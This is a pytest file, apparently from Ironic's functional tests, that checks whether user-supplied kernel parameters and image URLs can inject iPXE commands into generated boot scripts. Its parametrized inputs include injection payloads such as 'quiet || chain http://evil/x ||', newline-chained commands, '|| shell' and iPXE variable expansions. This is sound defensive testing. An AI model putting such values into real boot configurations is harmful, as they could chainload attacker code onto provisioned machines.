"""What users write into their instances, and what of it comes to the boot files of a whole running service."""

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import requests

from ironic.tests import boot_readers
from ironic.tests.functional.live.asking import ask, call, follow
from ironic.tests.live_service import Service, all_in_one_below, free_port
from ironic.tests.web_server import WebServer, web_server

MAC = "52:54:00:00:00:02"
OWN_MACHINE = "sshkey=\"ssh-rsa AAAA user@host\" url=https://h/a?b=c&d=e foo='a b'"
INTERFACES = {
    "boot": "ipxe",
    "deploy": "direct,ramdisk",
    "power": "fake",
    "management": "fake",
    "network": "noop",
    "storage": "noop",
    "raid": "no-raid",
    **{kind: f"no-{kind}" for kind in ("bios", "console", "firmware", "inspect", "rescue", "vendor")},
}


@pytest.fixture(scope="module")
def web(tmp_path_factory: pytest.TempPathFactory) -> Iterator[WebServer]:
    """Serve what machines boot."""
    directory = tmp_path_factory.mktemp("www")
    for name in ("kernel", "ramdisk", "image"):
        (directory / name).write_text(f"the {name}")
    with web_server(directory) as running:
        yield running


@pytest.fixture(scope="module")
def service(web: WebServer, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Service]:
    directory, port = tmp_path_factory.mktemp("service"), free_port()
    options: dict[str, dict[str, object]] = {
        "DEFAULT": {
            "state_path": directory,
            "enabled_hardware_types": "fake-hardware",
            **{f"enabled_{kind}_interfaces": names for kind, names in INTERFACES.items()},
            "default_deploy_interface": "direct",
        },
        "service_catalog": {"endpoint_override": f"http://127.0.0.1:{port}"},
        "conductor": {
            "automated_clean": False,
            "deploy_kernel": f"{web.url}/kernel",
            "deploy_ramdisk": f"{web.url}/ramdisk",
        },
        "deploy": {"http_root": web.directory, "http_url": web.url},
        "dhcp": {"dhcp_provider": "none"},
        "pxe": {"tftp_root": directory / "tftp", "tftp_master_path": directory / "masters"},
    }
    with all_in_one_below(directory, options, port) as running:
        yield running


def say(service: Service, uuid: str, **fields: Any) -> None:
    patch = [{"op": "add", "path": f"/{name}", "value": value} for name, value in fields.items()]
    assert call(service, "PATCH", f"/v1/nodes/{uuid}", patch).status_code == 200


@pytest.fixture
def node(service: Service) -> Iterator[str]:
    """Offer a machine; return its UUID."""
    body = {"driver": "fake-hardware", "driver_info": {"kernel_append_params": OWN_MACHINE}}
    uuid = call(service, "POST", "/v1/nodes", body).json()["uuid"]
    assert call(service, "POST", "/v1/ports", {"node_uuid": uuid, "address": MAC}).status_code == 201
    for target, state in (("manage", "manageable"), ("provide", "available")):
        assert ask(service, uuid, target).status_code == 202
        follow(service, uuid, state)
    yield uuid
    assert call(service, "PUT", f"/v1/nodes/{uuid}/maintenance", {}).status_code == 202
    assert call(service, "DELETE", f"/v1/nodes/{uuid}").status_code == 204


def commands(web: WebServer, keyword: str) -> list[boot_readers.Command]:
    """Return the commands of this kind in what iPXE finds for the machine."""
    script = requests.get(f"{web.url}/pxelinux.cfg/{MAC.replace(':', '-')}", timeout=30).text
    return [command for command in boot_readers.ipxe(script) if command.words[:1] == [keyword]]


@pytest.mark.parametrize("attack", ["quiet || chain http://evil/x ||", "ipa-api-url=http://evil ipa-insecure=1", 'x="'])
def test_a_users_parameters_do_not_reach_the_ramdisk_that_deploys(
    service: Service, web: WebServer, node: str, attack: str
) -> None:
    info = {"image_source": f"{web.url}/image", "image_checksum": "a" * 64, "kernel_append_params": attack}
    say(service, node, instance_info=info)
    assert ask(service, node, "active").status_code == 202
    follow(service, node, "wait call-back")
    (kernel,) = commands(web, "kernel")
    line = boot_readers.ipxe_command_line(kernel)
    assert line.startswith(f"{OWN_MACHINE} ipa-api-url={service.url} ipa-global-request-id=req-")
    assert "evil" not in line
    assert ask(service, node, "deleted").status_code == 202
    follow(service, node, "available")


@pytest.mark.parametrize(
    "field, info",
    [
        ("kernel_append_params", {"kernel_append_params": "quiet || chain http://evil/x ||"}),
        ("kernel_append_params", {"kernel_append_params": "x=${netX/next-server}"}),
        ("kernel_append_params", {"kernel_append_params": "x\nchain http://evil/x"}),
        ("kernel", {"kernel": "http://images/${net0/mac}"}),
        ("boot_iso", {"boot_iso": "http://images/${cwuri}"}),
    ],
)
def test_what_a_users_own_boot_can_not_carry_is_refused_by_name(
    service: Service, web: WebServer, node: str, field: str, info: dict[str, str]
) -> None:
    images = {"kernel": f"{web.url}/kernel", "ramdisk": f"{web.url}/ramdisk"}
    say(service, node, deploy_interface="ramdisk", instance_info={**images, **info})
    answer = ask(service, node, "active")
    assert answer.status_code == 400
    assert field in answer.text
    assert node in answer.text
    told = call(service, "GET", f"/v1/nodes/{node}/validate").json()["boot"]
    assert told["result"] is False
    assert field in told["reason"]
    assert not (Path(web.directory) / "pxelinux.cfg" / MAC.replace(":", "-")).exists()


def test_a_users_own_ramdisk_gets_what_the_user_wants(service: Service, web: WebServer, node: str) -> None:
    wanted = "inst.ks=https://h/ks?host=a&net=b#c ip=192.0.2.5::192.0.2.1:255.255.255.0::eno1:off"
    images = {"kernel": f"{web.url}/kernel", "ramdisk": f"{web.url}/ramdisk"}
    say(service, node, deploy_interface="ramdisk", instance_info={**images, "kernel_append_params": wanted})
    assert ask(service, node, "active").status_code == 202
    follow(service, node, "active")
    (kernel,) = commands(web, "kernel")
    assert boot_readers.ipxe_command_line(kernel).startswith(f"{wanted} BOOTIF=")
    say(service, node, instance_info={**images, "kernel_append_params": "x || shell"})
    assert ask(service, node, "rebuild").status_code == 400
    assert commands(web, "kernel") == [kernel]
    assert ask(service, node, "deleted").status_code == 202
    follow(service, node, "available")
